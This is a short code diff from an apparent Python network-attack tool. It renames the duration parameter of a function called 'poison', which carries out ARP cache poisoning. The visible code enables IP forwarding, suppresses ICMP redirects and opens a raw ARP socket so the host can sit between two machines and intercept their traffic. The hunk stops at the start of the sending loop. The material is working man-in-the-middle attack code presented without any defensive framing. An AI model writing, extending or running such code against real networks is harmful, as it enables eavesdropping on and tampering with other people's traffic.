@@ -29,14 +29,14 @@ def claim(own: bytes, address: str, to: str, to_mac: bytes) -> bytes:
 
 
 async def poison(order: Spec) -> object:
-    """Sit between `a` and `b` for `seconds`: tell each that the other is here, then tell them the truth again."""
+    """Sit between `a` and `b` for `lasts` seconds: tell each that the other is here, then tell them the truth again."""
     a, b = order["a"], order["b"]
     own = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text(encoding="ascii").strip().replace(":", ""))
     Path("/proc/sys/net/ipv4/ip_forward").write_text("1", encoding="ascii")
     Path("/proc/sys/net/ipv4/conf/all/send_redirects").write_text("0", encoding="ascii")
     Path("/proc/sys/net/ipv4/conf/eth0/send_redirects").write_text("0", encoding="ascii")
     loop = asyncio.get_running_loop()
-    until = loop.time() + order["seconds"]
+    until = loop.time() + order["lasts"]
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as sock:
         sock.bind(("eth0", 0))
         while loop.time() < until:
